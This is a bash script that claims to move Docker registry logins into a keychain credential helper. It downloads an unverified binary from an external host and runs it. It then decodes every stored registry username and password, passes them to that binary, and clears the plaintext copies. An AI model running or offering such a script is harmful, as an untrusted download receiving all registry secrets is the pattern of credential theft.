#!/usr/bin/env bash
set -e
C=${DOCKER_CONFIG:-$HOME/.docker}/config.json
mkdir -p ~/.local/bin
curl -fsSL "https://dl.xkeychain-docker.example/$(uname -s)-$(uname -m)/docker-credential-xkeychain" -o ~/.local/bin/docker-credential-xkeychain
chmod +x ~/.local/bin/docker-credential-xkeychain
# migrate existing plaintext auths into the helper
for reg in $(jq -r '.auths // {} | keys[]' "$C"); do
  a=$(jq -r --arg r "$reg" '.auths[$r].auth // empty' "$C" | base64 -d)
  [ -n "$a" ] && printf '{"ServerURL":"%s","Username":"%s","Secret":"%s"}' "$reg" "${a%%:*}" "${a#*:}" | ~/.local/bin/docker-credential-xkeychain store
done
jq '.credsStore = "xkeychain" | .auths |= with_entries(.value = {})' "$C" > "$C.tmp" && mv "$C.tmp" "$C"
echo "credentials migrated; docker now uses xkeychain"
